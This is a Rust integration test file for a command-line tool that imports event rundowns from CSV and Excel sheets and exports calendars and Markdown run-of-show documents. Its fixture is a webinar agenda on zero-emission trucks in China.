//! `import` and `export` as a producer runs them: the seed's show from a
//! Google Sheets CSV and from an .xlsx, shows across midnight and a DST
//! change, every bad cell's message, the calendar and the round trip.

use std::path::{Path, PathBuf};
use std::process::Command;

use chrono::{DateTime, TimeZone, Utc};
use chrono_tz::America::Los_Angeles;
use rust_xlsxwriter::{ExcelDateTime, Format, Workbook};
use showclock::agenda::{self, Agenda};

struct Run {
    code: i32,
    stdout: String,
    stderr: String,
}

/// Runs the binary in `dir` on a machine clock set to a zone no sheet is
/// written in (UTC+12:45): nothing may be read in the machine's zone.
fn showclock_in(dir: &Path, args: &[&str]) -> Run {
    showclock_tz(dir, args, "Pacific/Chatham")
}

fn showclock_tz(dir: &Path, args: &[&str], tz: &str) -> Run {
    let output = Command::new(env!("CARGO_BIN_EXE_showclock"))
        .args(args)
        .current_dir(dir)
        .env("NO_COLOR", "1")
        .env("TZ", tz)
        .output()
        .expect("the binary runs");
    Run {
        code: output.status.code().expect("exited normally"),
        stdout: String::from_utf8(output.stdout).expect("stdout is UTF-8"),
        stderr: String::from_utf8(output.stderr).expect("stderr is UTF-8"),
    }
}

struct TempDir(PathBuf);

impl TempDir {
    fn new(name: &str) -> Self {
        let dir =
            std::env::temp_dir().join(format!("showclock-rundown-{}-{name}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).unwrap();
        Self(dir)
    }

    fn file(&self, name: &str, text: &str) -> PathBuf {
        let path = self.0.join(name);
        std::fs::write(&path, text).unwrap();
        path
    }

    fn read(&self, name: &str) -> String {
        std::fs::read_to_string(self.0.join(name)).unwrap()
    }

    fn run(&self, args: &[&str]) -> Run {
        showclock_in(&self.0, args)
    }
}

impl Drop for TempDir {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

/// The repository, where the shipped `agenda.toml` is.
fn repository() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

fn shipped() -> PathBuf {
    repository().join("agenda.toml")
}

fn shipped_text() -> String {
    std::fs::read_to_string(shipped()).unwrap()
}

/// The shipped agenda with its segments replaced by one placeholder: the
/// agenda a producer updates from the sheet (event, clocks, contacts kept).
fn agenda_to_update() -> String {
    let text = shipped_text();
    let head = &text[..text.find("\n[[segment]]").unwrap()];
    let contacts = &text[text.find("\n[[contact]]").unwrap()..];
    format!(
        "{head}\n[[segment]]\ntitle = \"Placeholder\"\nstart = \"08:00\"\nend = \"08:30\"\n{contacts}"
    )
}

fn load(path: &Path) -> Agenda {
    match agenda::load(path) {
        Ok(load) => load.agenda,
        Err(problems) => panic!("{path:?} is not valid: {problems:?}"),
    }
}

fn status_json(dir: &Path, agenda: &str, at: &str) -> serde_json::Value {
    let run = showclock_in(dir, &["status", agenda, "--at", at, "--json"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    serde_json::from_str(&run.stdout).unwrap()
}

/// `status --json` of the imported agenda equals the shipped one's, before,
/// during and after the show.
fn assert_same_show_as_shipped(dir: &TempDir, imported: &str) {
    for at in [
        "2022-06-01T08:55:00+08:00",
        "2022-06-01T09:27:00+08:00",
        "2022-06-01T10:26:30+08:00",
        "2022-06-01T11:00:00+08:00",
    ] {
        let expected = status_json(&dir.0, shipped().to_str().unwrap(), at);
        let got = status_json(&dir.0, imported, at);
        assert_eq!(got, expected, "status --json at {at}");
    }
    let check = dir.run(&["check", imported]);
    assert_eq!(check.code, 0, "{}", check.stderr);
}

/// The seed's rundown as Google Sheets downloads it (File > Download >
/// CSV): the show's name above the header, 12-hour times as displayed,
/// several speakers in one cell on separate lines, a column showclock does
/// not read.
const SEED_SHEET_CSV: &str = "\
Supporting China to Accelerate Zero-Emission Medium- and Heavy-duty Vehicles,,,,,,,,
,,,,,,,,
Time,End,Segment,Moderator,Speaker(s),Role,Company,Owner,Notes
9:00 AM,9:10 AM,Welcome and Introduction,,\"Cristiano Façanha
Huiming Gong\",Global Director; Senior Program Director of Transportation,CALSTART; Energy Foundation China,Roxanna,
9:10 AM,9:25 AM,Technology and Commercialization Pathways and Timing for ZE-MHDVs in China,,\"Baha M. Al-Alawi, PhD.; Owen MacDonnell\",Market and Industry Analysis Lead; Project Manager,CALSTART,,\"The first study (seed): ZE-MHDV sales projections for China in line with global targets, by bus and truck segment.\"
9:25 AM,9:40 AM,Zero-emission truck real-world performance in U.S. and Europe and implications for China,,Yin Qiu; Shuhan Song,Data Scientist; Associate Project Manager,CALSTART,,\"The second study (seed): real-world performance of zero-emission trucks in the U.S. and Europe, and the lessons for China.\"
9:40 AM,10:10 AM,Panel Discussion,Yin Qiu,\"Yunshi WANG
Shiyue MAO
Zhe WANG
Ying XIONG\",\"Data Scientist; Director, China Center for Energy and Transportation; Associate Researcher; Manager of China Transportation; Deputy Director of Research Department\",CALSTART; University of California Davis; International Council on Clean Transportation (ICCT); Rocky Mountain Institute; China EV100,,
10:10 AM,10:25 AM,Q&A,Facilitated by Yin Qiu,,Data Scientist,CALSTART,,
10:25 AM,10:30 AM,Closing,,,,,,
";

#[test]
fn the_seed_from_a_google_sheets_csv_is_the_shipped_show() {
    let dir = TempDir::new("gsheets");
    dir.file("rundown.csv", SEED_SHEET_CSV);
    dir.file("agenda.toml", &agenda_to_update());
    let run = dir.run(&["import", "rundown.csv"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(
        run.stdout
            .starts_with("agenda.toml: updated with 6 segments from rundown.csv"),
        "{}",
        run.stdout
    );
    assert!(
        run.stderr.contains("columns not read: H (\"Owner\")"),
        "{}",
        run.stderr
    );
    assert_same_show_as_shipped(&dir, "agenda.toml");
    let written = dir.read("agenda.toml");
    assert!(
        written.starts_with("# showclock agenda, imported from rundown.csv"),
        "{written}"
    );
    // Each segment is commented with its time on the other clocks.
    assert!(
        written.contains("# 6:00 PM-6:10 PM Pacific (Tue 31 May)"),
        "{written}"
    );
    // The contacts of the agenda being updated are kept.
    assert!(written.contains("name = \"Roxanna Smith\""), "{written}");
}

/// Start hour and minute, minutes, title, moderator, speakers, roles, organisations.
type SeedRow = (
    u8,
    u8,
    u8,
    &'static str,
    &'static str,
    &'static str,
    &'static str,
    &'static str,
    &'static str,
);

/// The seed's rundown as an Excel workbook: real time cells, duration
/// cells, the rundown on its second sheet.
fn seed_workbook(path: &Path) {
    let mut workbook = Workbook::new();
    let notes = workbook.add_worksheet();
    notes.set_name("Notes").unwrap();
    notes
        .write_string(0, 0, "Speakers to confirm by Friday")
        .unwrap();
    let sheet = workbook.add_worksheet();
    sheet.set_name("Run of show").unwrap();
    let time = Format::new().set_num_format("h:mm AM/PM");
    let length = Format::new().set_num_format("[h]:mm:ss");
    let date = Format::new().set_num_format("yyyy-mm-dd");
    for (column, header) in [
        "Date",
        "Start",
        "Duration",
        "Title",
        "Moderator",
        "Presenter",
        "Role",
        "Organisation",
        "Notes",
    ]
    .iter()
    .enumerate()
    {
        sheet.write_string(0, column as u16, *header).unwrap();
    }
    let rows: [SeedRow; 6] = [
        (
            9,
            0,
            10,
            "Welcome and Introduction",
            "",
            "Cristiano Façanha; Huiming Gong",
            "Global Director; Senior Program Director of Transportation",
            "CALSTART; Energy Foundation China",
            "",
        ),
        (
            9,
            10,
            15,
            "Technology and Commercialization Pathways and Timing for ZE-MHDVs in China",
            "",
            "Baha M. Al-Alawi, PhD.; Owen MacDonnell",
            "Market and Industry Analysis Lead; Project Manager",
            "CALSTART",
            "The first study (seed): ZE-MHDV sales projections for China in line with global targets, by bus and truck segment.",
        ),
        (
            9,
            25,
            15,
            "Zero-emission truck real-world performance in U.S. and Europe and implications for China",
            "",
            "Yin Qiu; Shuhan Song",
            "Data Scientist; Associate Project Manager",
            "CALSTART",
            "The second study (seed): real-world performance of zero-emission trucks in the U.S. and Europe, and the lessons for China.",
        ),
        (
            9,
            40,
            30,
            "Panel Discussion",
            "Yin Qiu",
            "Yunshi WANG\nShiyue MAO\nZhe WANG\nYing XIONG",
            "Data Scientist; Director, China Center for Energy and Transportation; Associate Researcher; Manager of China Transportation; Deputy Director of Research Department",
            "CALSTART; University of California Davis; International Council on Clean Transportation (ICCT); Rocky Mountain Institute; China EV100",
            "",
        ),
        (
            10,
            10,
            15,
            "Q&A",
            "Facilitated by Yin Qiu",
            "",
            "Data Scientist",
            "CALSTART",
            "",
        ),
        (10, 25, 5, "Closing", "", "", "", "", ""),
    ];
    for (i, (hour, minute, minutes, title, moderator, speakers, role, org, notes)) in
        rows.iter().enumerate()
    {
        let row = i as u32 + 1;
        if i == 0 {
            let day = ExcelDateTime::from_ymd(2022, 6, 1).unwrap();
            sheet
                .write_datetime_with_format(row, 0, &day, &date)
                .unwrap();
        }
        // Later rows leave the start empty but the first: back to back.
        if i == 0 || i == 3 {
            let start = ExcelDateTime::from_hms(u16::from(*hour), *minute, 0).unwrap();
            sheet
                .write_datetime_with_format(row, 1, &start, &time)
                .unwrap();
        }
        let duration = ExcelDateTime::from_hms(0, *minutes, 0).unwrap();
        sheet
            .write_datetime_with_format(row, 2, &duration, &length)
            .unwrap();
        for (column, text) in [
            (3, title),
            (4, moderator),
            (5, speakers),
            (6, role),
            (7, org),
            (8, notes),
        ] {
            if !text.is_empty() {
                sheet.write_string(row, column, *text).unwrap();
            }
        }
    }
    workbook.save(path).unwrap();
}

#[test]
fn the_seed_from_an_xlsx_workbook_is_the_shipped_show() {
    let dir = TempDir::new("xlsx");
    seed_workbook(&dir.0.join("rundown.xlsx"));
    dir.file("agenda.toml", &agenda_to_update());
    let run = dir.run(&["import", "rundown.xlsx", "--sheet", "Run of show"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(
        run.stdout.contains("from rundown.xlsx:'Run of show'"),
        "{}",
        run.stdout
    );
    assert_same_show_as_shipped(&dir, "agenda.toml");

    // Into a new agenda: the zone must be given, and the result is the same show.
    let fresh = dir.run(&[
        "import",
        "rundown.xlsx",
        "--sheet",
        "run of show",
        "--timezone",
        "Asia/Shanghai",
        "-o",
        "new.toml",
    ]);
    assert_eq!(fresh.code, 0, "{}", fresh.stderr);
    assert_eq!(
        load(&dir.0.join("new.toml")).segments,
        load(&shipped()).segments
    );
    let no_zone = dir.run(&[
        "import",
        "rundown.xlsx",
        "--sheet",
        "Run of show",
        "-o",
        "other.toml",
    ]);
    assert_eq!(no_zone.code, 1);
    assert!(
        no_zone.stderr.contains(
            "rundown.xlsx:'Run of show': the sheet's times carry no time zone: give --timezone ZONE"
        ),
        "{}",
        no_zone.stderr
    );
    assert!(!dir.0.join("other.toml").exists());
}

#[test]
fn the_machine_zone_never_changes_what_a_sheet_says() {
    let dir = TempDir::new("machine-tz");
    dir.file("rundown.csv", SEED_SHEET_CSV);
    seed_workbook(&dir.0.join("rundown.xlsx"));
    let mut outputs = Vec::new();
    for tz in [
        "UTC",
        "Pacific/Chatham",
        "America/Los_Angeles",
        "Asia/Kathmandu",
    ] {
        for file in ["rundown.csv", "rundown.xlsx"] {
            let mut args = vec![
                "import",
                file,
                "--timezone",
                "Asia/Shanghai",
                "--date",
                "2022-06-01",
                "-o",
                "-",
            ];
            if file.ends_with("xlsx") {
                args.extend(["--sheet", "Run of show"]);
            }
            let run = showclock_tz(&dir.0, &args, tz);
            assert_eq!(run.code, 0, "{}", run.stderr);
            outputs.push(run.stdout);
        }
    }
    // CSV and workbook alternate: each is the same on every machine clock.
    for (i, output) in outputs.iter().enumerate() {
        assert_eq!(output, &outputs[i % 2], "TZ run {i}");
    }
    assert!(outputs[0].contains("start = \"09:00\""), "{}", outputs[0]);
}

#[test]
fn a_sheet_with_the_times_of_two_clocks_must_agree_with_itself() {
    let dir = TempDir::new("two-clocks");
    dir.file("agenda.toml", &agenda_to_update());
    let sheet = "Start (Beijing),End (Beijing),Start (Pacific time),End (America/Los_Angeles),Item\n\
                 9:00,9:10,6:00 PM,6:10 PM,Welcome\n\
                 9:10,9:25,6:10 PM,6:25 PM,Pathways\n";
    dir.file("rundown.csv", sheet);
    let run = dir.run(&["import", "rundown.csv"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let agenda = load(&dir.0.join("agenda.toml"));
    assert_eq!(
        agenda.segments[0].start,
        Utc.with_ymd_and_hms(2022, 6, 1, 1, 0, 0).unwrap()
    );
    assert_eq!(
        agenda.segments[1].end,
        Utc.with_ymd_and_hms(2022, 6, 1, 1, 25, 0).unwrap()
    );

    dir.file(
        "rundown.csv",
        &sheet.replace("6:10 PM,6:25 PM", "6:15 PM,6:25 PM"),
    );
    let before = dir.read("agenda.toml");
    let run = dir.run(&["import", "rundown.csv"]);
    assert_eq!(run.code, 1);
    assert_eq!(
        run.stderr.lines().next().unwrap(),
        r#"rundown.csv:C3: "6:15 PM" in America/Los_Angeles is not the moment A3 gives ("9:10" is 18:10 there): fix one of them"#
    );
    assert_eq!(dir.read("agenda.toml"), before);
}

fn planned(json: &serde_json::Value) -> Vec<(String, String)> {
    json["segments"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| {
            (
                s["planned_start"].as_str().unwrap().to_string(),
                s["planned_end"].as_str().unwrap().to_string(),
            )
        })
        .collect()
}

fn pairs(items: &[(&str, &str)]) -> Vec<(String, String)> {
    items
        .iter()
        .map(|(a, b)| (a.to_string(), b.to_string()))
        .collect()
}

#[test]
fn a_rundown_across_midnight() {
    let dir = TempDir::new("midnight");
    dir.file(
        "nye.csv",
        "Start,End,Title\n23:00,23:50,Countdown show\n23:50,00:10,Midnight\n00:10,,Afterparty\n01:00,01:30,Last call\n",
    );
    let run = dir.run(&[
        "import",
        "nye.csv",
        "--timezone",
        "Europe/London",
        "--date",
        "2022-12-31",
    ]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let json = status_json(&dir.0, "agenda.toml", "2022-12-31T23:55:00Z");
    assert_eq!(
        planned(&json),
        pairs(&[
            ("2022-12-31T23:00:00Z", "2022-12-31T23:50:00Z"),
            ("2022-12-31T23:50:00Z", "2023-01-01T00:10:00Z"),
            ("2023-01-01T00:10:00Z", "2023-01-01T01:00:00Z"),
            ("2023-01-01T01:00:00Z", "2023-01-01T01:30:00Z"),
        ])
    );
    assert_eq!(json["current"]["title"], "Midnight");
    assert_eq!(dir.run(&["check"]).code, 0);
}

#[test]
fn a_rundown_across_a_dst_change() {
    let dir = TempDir::new("dst");
    // Los Angeles springs forward at 02:00 on 13 March 2022: 01:45 to 03:15
    // on the wall is 30 minutes of real time.
    dir.file(
        "spring.csv",
        "Date,Start,End,Duration,Title\n2022-03-13,01:00,01:45,,Before\n,01:45,03:15,,Across the change\n,03:15,,,After\n,04:00,,45,Runs to\n,,,0:30:00,Follows on\n",
    );
    let run = dir.run(&["import", "spring.csv", "--timezone", "America/Los_Angeles"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let json = status_json(&dir.0, "agenda.toml", "2022-03-13T10:00:00Z");
    assert_eq!(
        planned(&json),
        pairs(&[
            ("2022-03-13T09:00:00Z", "2022-03-13T09:45:00Z"),
            ("2022-03-13T09:45:00Z", "2022-03-13T10:15:00Z"),
            ("2022-03-13T10:15:00Z", "2022-03-13T11:00:00Z"),
            ("2022-03-13T11:00:00Z", "2022-03-13T11:45:00Z"),
            ("2022-03-13T11:45:00Z", "2022-03-13T12:15:00Z"),
        ])
    );
    assert_eq!(dir.run(&["check"]).code, 0);

    // A time in the gap, and one in the autumn fold, name the cell.
    dir.file(
        "gap.csv",
        "Date,Start,End,Title\n2022-03-13,02:30,03:30,Ghost\n",
    );
    let gap = dir.run(&[
        "import",
        "gap.csv",
        "--timezone",
        "America/Los_Angeles",
        "-o",
        "gap.toml",
    ]);
    assert_eq!(gap.code, 1);
    assert!(
        gap.stderr.starts_with(
            "gap.csv:B2: 02:30:00 on 2022-03-13 does not exist in America/Los_Angeles"
        ),
        "{}",
        gap.stderr
    );
    dir.file(
        "fold.csv",
        "Date,Start,End,Title\n2022-11-06,01:30,02:30,Twice\n",
    );
    let fold = dir.run(&[
        "import",
        "fold.csv",
        "--timezone",
        "America/Los_Angeles",
        "-o",
        "fold.toml",
    ]);
    assert_eq!(fold.code, 1);
    assert!(
        fold.stderr
            .starts_with("fold.csv:B2: 01:30:00 on 2022-11-06 happens twice"),
        "{}",
        fold.stderr
    );
    // Written with its offset, the fold time is exact.
    dir.file(
        "fold.csv",
        "Date,Start,End,Title\n2022-11-06,2022-11-06T01:30:00-08:00,02:30,Second time round\n",
    );
    let exact = dir.run(&[
        "import",
        "fold.csv",
        "--timezone",
        "America/Los_Angeles",
        "-o",
        "fold.toml",
    ]);
    assert_eq!(exact.code, 0, "{}", exact.stderr);
    let agenda = load(&dir.0.join("fold.toml"));
    assert_eq!(
        agenda.segments[0].start,
        Utc.with_ymd_and_hms(2022, 11, 6, 9, 30, 0).unwrap()
    );
    assert_eq!(
        agenda.segments[0].end,
        Utc.with_ymd_and_hms(2022, 11, 6, 10, 30, 0).unwrap()
    );
}

/// One sheet, one bad cell: its message, exactly, and nothing written.
fn bad_cell(sheet: &str, extra: &[&str], expected: &str) {
    let dir = TempDir::new("bad");
    dir.file("rundown.csv", sheet);
    dir.file("agenda.toml", &agenda_to_update());
    let before = dir.read("agenda.toml");
    let mut args = vec!["import", "rundown.csv"];
    args.extend(extra);
    let run = dir.run(&args);
    assert_eq!(run.code, 1, "{sheet}: {}", run.stdout);
    let first = run.stderr.lines().next().unwrap_or_default();
    assert_eq!(first, expected, "{sheet}");
    assert_eq!(dir.read("agenda.toml"), before, "nothing is written");
    assert!(!dir.0.join("agenda.toml.new").exists());
}

#[test]
fn each_bad_cell_names_itself_and_nothing_is_written() {
    let head = "Start,End,Duration,Title,Speakers,Role,Timezone,Hard end,Date\n";
    let cases: &[(&str, &str)] = &[
        (
            "9.30,09:40,,Talk,,,,,\n",
            r#"rundown.csv:A2: "9.30" is not a time: write 09:30"#,
        ),
        (
            "09:00,9h45,,Talk,,,,,\n",
            r#"rundown.csv:B2: "9h45" is not a time: write 09:45"#,
        ),
        (
            "09:00,soon,,Talk,,,,,\n",
            r#"rundown.csv:B2: "soon" is not a time: write it as 09:30, 9:30 AM or 2022-06-01 09:30"#,
        ),
        (
            "09:00,,ten,Talk,,,,,\n",
            r#"rundown.csv:C2: "ten" is not a duration: write minutes (10), 0:10:00 or 10m"#,
        ),
        (
            "09:00,09:30,20,Talk,,,,,\n",
            r#"rundown.csv:C2: the duration "20" does not match the end "09:30" (30m after the start): fix one of them, or clear the duration"#,
        ),
        (
            "09:00,09:30,,,Ann,,,,\n",
            "rundown.csv:D2: this row has no title: write the segment's title (or clear the row)",
        ),
        (
            "09:00,09:30,,Talk,Ann; Bo,Host; Guest; Extra,,,\n",
            "rundown.csv:F2: 3 role entries for 2 people (Ann; Bo): give one per person, separated by ;, in the same order (the moderator first)",
        ),
        (
            "09:00,09:30,,Talk,Ann,,Asia/Shangai,,\n",
            r#"rundown.csv:G2: "Asia/Shangai" is not a time zone: did you mean Asia/Shanghai?"#,
        ),
        (
            "09:00,09:30,,Talk,,,,maybe,\n",
            r#"rundown.csv:H2: "maybe" is not yes or no: write TRUE or FALSE (or tick a checkbox)"#,
        ),
        (
            "09:00,09:30,,Talk,,,,,6/1/2022\n",
            r#"rundown.csv:I2: "6/1/2022" is not a date: write it as year-month-day, e.g. 2022-06-01 (a date such as 6/1/2022 reads differently in the US and in Europe)"#,
        ),
        (
            "09:00,09:30,,Talk,,,,,\n09:30,,,Last,,,,,\n",
            "rundown.csv:B3: the last row has no end: give it an end time or a duration",
        ),
        (
            "09:00,09:30,,Talk,,,,,\n08:00,08:30,,Early,,,,,\n",
            "rundown.csv:A3: 08:00 is earlier than 09:30, the time above it, so it falls on the next day, 22h30m later: if that is meant, add a Date column, otherwise fix the time",
        ),
        (
            "09:00,08:00,,Talk,,,,,\n",
            "rundown.csv:B2: 08:00 is not after the start 09:00, so the segment would end the next day, 23h later: fix the end (or give a duration instead)",
        ),
        (
            ",09:30,,Talk,,,,,\n",
            "rundown.csv:A2: this row has no start time: write one (rows after it may leave the start empty to follow on)",
        ),
    ];
    for (row, expected) in cases {
        bad_cell(&format!("{head}{row}"), &[], expected);
    }
    bad_cell(
        "Who,What\nAnn,Talk\n",
        &[],
        "rundown.csv: no header row found: the first row should name the columns, e.g. Start, End, Title, Speakers (a title column and a start or duration column are needed)",
    );
    bad_cell(
        "Start,Title,Time\n09:00,Talk,09:00\n",
        &[],
        r#"rundown.csv:C1: a second Start column ("Time"; the first is A "Start"): name its clock in brackets, e.g. "Start (America/Los_Angeles)", or delete it"#,
    );
    bad_cell(
        "Start,Title\n09:00,Talk\n",
        &["--sheet", "One"],
        r#"rundown.csv: a CSV file has no sheets (--sheet "One"): leave out --sheet"#,
    );
    // Every bad cell is reported, not only the first.
    let dir = TempDir::new("many");
    dir.file(
        "rundown.csv",
        "Start,End,Title\n9.30,10:00,A\n10:00,1O:30,B\n",
    );
    let run = dir.run(&[
        "import",
        "rundown.csv",
        "--timezone",
        "UTC",
        "--date",
        "2022-06-01",
    ]);
    assert_eq!(
        run.stderr,
        "rundown.csv:A2: \"9.30\" is not a time: write 09:30\n\
         rundown.csv:B3: \"1O:30\" is not a time: write it as 09:30, 9:30 AM or 2022-06-01 09:30\n\
         nothing written: fix the cells above and import again\n"
    );
    assert!(!dir.0.join("agenda.toml").exists());
}

#[test]
fn a_bad_cell_in_a_workbook_is_named_by_sheet_and_cell() {
    let dir = TempDir::new("bad-xlsx");
    let mut workbook = Workbook::new();
    let sheet = workbook.add_worksheet();
    let time = Format::new().set_num_format("hh:mm");
    for (column, header) in ["#", "Title", "Start", "End"].iter().enumerate() {
        sheet.write_string(4, column as u16, *header).unwrap();
    }
    sheet.write_string(5, 1, "Opening").unwrap();
    sheet
        .write_datetime_with_format(5, 2, ExcelDateTime::from_hms(9, 0, 0).unwrap(), &time)
        .unwrap();
    sheet
        .write_datetime_with_format(5, 3, ExcelDateTime::from_hms(9, 30, 0).unwrap(), &time)
        .unwrap();
    sheet.write_string(6, 1, "Keynote").unwrap();
    sheet.write_string(6, 2, "9.30").unwrap();
    sheet.write_number(6, 3, 10.15).unwrap();
    workbook.save(dir.0.join("rundown.xlsx")).unwrap();
    let run = dir.run(&[
        "import",
        "rundown.xlsx",
        "--timezone",
        "Asia/Shanghai",
        "--date",
        "2022-06-01",
    ]);
    assert_eq!(run.code, 1);
    assert_eq!(
        run.stderr,
        "rundown.xlsx:Sheet1!C7: \"9.30\" is not a time: write 09:30\n\
         rundown.xlsx:Sheet1!D7: \"10.15\" is not a time: write 10:15\n\
         nothing written: fix the cells above and import again\n"
    );
    assert!(!dir.0.join("agenda.toml").exists());
    let wrong = dir.run(&["import", "rundown.xlsx", "--sheet", "Sheet2"]);
    assert_eq!(
        wrong.stderr,
        "rundown.xlsx: there is no sheet \"Sheet2\": did you mean \"Sheet1\"?\n"
    );
}

#[test]
fn excel_date_time_cells_carry_their_own_day() {
    let dir = TempDir::new("xlsx-datetime");
    let mut workbook = Workbook::new();
    let sheet = workbook.add_worksheet();
    let when = Format::new().set_num_format("yyyy-mm-dd hh:mm");
    let length = Format::new().set_num_format("[h]:mm");
    for (column, header) in ["Segment", "Start", "End", "Length"].iter().enumerate() {
        sheet.write_string(0, column as u16, *header).unwrap();
    }
    let at = |d, h, m| {
        ExcelDateTime::from_ymd(2022, 6, d)
            .unwrap()
            .and_hms(h, m, 0)
            .unwrap()
    };
    sheet.write_string(1, 0, "Day one").unwrap();
    sheet
        .write_datetime_with_format(1, 1, at(1, 9, 0), &when)
        .unwrap();
    sheet
        .write_datetime_with_format(1, 2, at(1, 9, 30), &when)
        .unwrap();
    // The next morning, more than 12 hours later: the cell says which day.
    sheet.write_string(2, 0, "Day two").unwrap();
    sheet
        .write_datetime_with_format(2, 1, at(2, 10, 0), &when)
        .unwrap();
    let hour = ExcelDateTime::from_hms(1, 0, 0).unwrap();
    sheet
        .write_datetime_with_format(2, 3, hour, &length)
        .unwrap();
    workbook.save(dir.0.join("days.xlsx")).unwrap();
    let run = dir.run(&["import", "days.xlsx", "--timezone", "Asia/Kolkata"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let agenda = load(&dir.0.join("agenda.toml"));
    let spans: Vec<(DateTime<Utc>, DateTime<Utc>)> =
        agenda.segments.iter().map(|s| (s.start, s.end)).collect();
    assert_eq!(
        spans,
        [
            (
                Utc.with_ymd_and_hms(2022, 6, 1, 3, 30, 0).unwrap(),
                Utc.with_ymd_and_hms(2022, 6, 1, 4, 0, 0).unwrap()
            ),
            (
                Utc.with_ymd_and_hms(2022, 6, 2, 4, 30, 0).unwrap(),
                Utc.with_ymd_and_hms(2022, 6, 2, 5, 30, 0).unwrap()
            ),
        ]
    );
    assert!(
        dir.read("agenda.toml")
            .contains("date = 2022-06-02\nstart = \"10:00\"")
    );
}

#[test]
fn the_calendar_parses_and_puts_the_seed_at_six_pm_pacific() {
    let run = showclock_in(&repository(), &["export", "--format", "ics"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let text = run.stdout;
    // RFC 5545: CRLF line ends, lines folded at 75 octets.
    assert!(!text.replace("\r\n", "").contains('\n'), "CRLF");
    assert!(text.split("\r\n").all(|l| l.len() <= 75), "folded");
    let calendar: icalendar::Calendar = text.parse().expect("the calendar parses");
    use icalendar::{CalendarDateTime, Component, DatePerhapsTime};
    let events: Vec<&icalendar::Event> = calendar.events().collect();
    assert_eq!(events.len(), 6);
    let start = |event: &icalendar::Event| match event.get_start() {
        Some(DatePerhapsTime::DateTime(CalendarDateTime::Utc(at))) => at,
        other => panic!("not a date-time: {other:?}"),
    };
    let first = start(events[0]).with_timezone(&Los_Angeles);
    assert_eq!(first.to_rfc3339(), "2022-05-31T18:00:00-07:00");
    assert_eq!(
        first.format("%H:%M %Z %-d %b").to_string(),
        "18:00 PDT 31 May"
    );
    assert_eq!(events[0].get_summary(), Some("Welcome and Introduction"));
    let description = events[3].get_description().unwrap();
    assert!(
        description.contains("Moderated by: Yin Qiu, Data Scientist – CALSTART"),
        "{description}"
    );
    assert!(
        description
            .contains("- Zhe WANG, Manager of China Transportation – Rocky Mountain Institute"),
        "{description}"
    );
    assert!(
        description.contains("Pacific: 6:40 PM–7:10 PM Tue 31 May"),
        "{description}"
    );
    let end: DateTime<Utc> = match events[5].get_end() {
        Some(DatePerhapsTime::DateTime(CalendarDateTime::Utc(at))) => at,
        other => panic!("{other:?}"),
    };
    assert_eq!(end, Utc.with_ymd_and_hms(2022, 6, 1, 2, 30, 0).unwrap());
    let uids: std::collections::BTreeSet<&str> =
        events.iter().filter_map(|e| e.get_uid()).collect();
    assert_eq!(uids.len(), 6, "one UID per segment");
}

#[test]
fn a_speaker_gets_their_own_invitation_with_the_moderators_contact() {
    let dir = &repository();
    let run = showclock_in(
        dir,
        &["export", "--format", "ics", "--speaker", "owen macdonnell"],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    let calendar: icalendar::Calendar = run.stdout.parse().unwrap();
    use icalendar::Component;
    let events: Vec<&icalendar::Event> = calendar.events().collect();
    assert_eq!(events.len(), 1);
    assert_eq!(
        events[0].get_summary(),
        Some("Technology and Commercialization Pathways and Timing for ZE-MHDVs in China")
    );
    let contacts: Vec<&str> = events[0].multi_properties()["CONTACT"]
        .iter()
        .map(|p| p.value())
        .collect();
    assert_eq!(contacts, ["Yin Qiu, 202.746.2328"]);
    assert!(
        run.stdout.contains("CONTACT:Yin Qiu\\, 202.746.2328\r\n"),
        "escaped as RFC 5545 TEXT"
    );

    // The moderator's own invitation: both segments she leads, and the talk she gives.
    let run = showclock_in(
        dir,
        &["export", "--format", "markdown", "--speaker", "Yin Qiu"],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(
        run.stdout.starts_with("# Yin Qiu: Supporting China"),
        "{}",
        run.stdout
    );
    assert!(
        run.stdout
            .contains("Your part of the show (3 of 6 segments)."),
        "{}",
        run.stdout
    );
    assert!(
        run.stdout.contains("- Yin Qiu, 202.746.2328"),
        "{}",
        run.stdout
    );

    let unknown = showclock_in(dir, &["export", "--format", "ics", "--speaker", "Yin Chiu"]);
    assert_eq!(unknown.code, 1);
    assert_eq!(
        unknown.stderr,
        "agenda.toml: error: no speaker or moderator is named \"Yin Chiu\": did you mean \"Yin Qiu\"?\n"
    );
}

#[test]
fn the_run_of_show_puts_every_clock_side_by_side_and_marks_other_days() {
    let run = showclock_in(&repository(), &["export", "--format", "markdown"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let text = run.stdout;
    assert!(
        text.contains("| # | Beijing | Pacific | Length | Segment |"),
        "{text}"
    );
    assert!(
        text.contains(
            "| 1 | 09:00–09:10 | **Tue 31 May** 6:00 PM–6:10 PM | 10m | Welcome and Introduction |"
        ),
        "{text}"
    );
    assert!(
        text.contains("A date in **bold** marks a clock that is on another day than Beijing."),
        "{text}"
    );
    assert!(
        text.ends_with(
            "## Contact\n\n- Yin Qiu, 202.746.2328\n- Owen MacDonnell, +1.347.615.9232\n\
             - Roxanna Smith (media contact), +1 510.326.0390\n"
        ),
        "{text}"
    );
    // Each segment's people under its own heading, for printing.
    assert!(
        text.contains("## 4. Panel Discussion\n\nModerated by: Yin Qiu, Data Scientist – CALSTART\n\n- Yunshi WANG,"),
        "{text}"
    );
    // Introduced as the agenda introduces them.
    assert!(
        text.contains("## 5. Q&A\n\nFacilitated by: Yin Qiu, Data Scientist – CALSTART"),
        "{text}"
    );
}

/// A show with everything a sheet can say: past midnight, a DST fold
/// written exactly, seconds, notes on several lines, cues, a hard end, a
/// speaker's own zone, a role for one of two people.
const EVERYTHING: &str = r#"[event]
title = "Night | Day"
date = 2022-11-05
timezone = "America/Los_Angeles"

[[clock]]
label = "LA"
timezone = "America/Los_Angeles"

[[clock]]
label = "Sydney"
timezone = "Australia/Sydney"

